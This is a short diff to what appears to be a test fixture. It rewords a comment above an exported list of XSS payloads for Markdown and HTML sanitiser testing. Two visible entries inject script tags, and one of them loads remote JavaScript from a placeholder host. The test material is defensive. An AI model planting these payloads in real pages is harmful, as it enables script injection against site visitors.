@@ -1,4 +1,4 @@
-/** Texts that try to run a script, load something or lead astray, in Markdown and HTML of every make. */
+/** Texts in Markdown and HTML that try to run a script, load a resource or mislead readers. */
 export const xssPayloads: string[] = [
   "<script>alert(1)</script>",
   "<SCRIPT SRC=//example.edu/x.js></SCRIPT>",
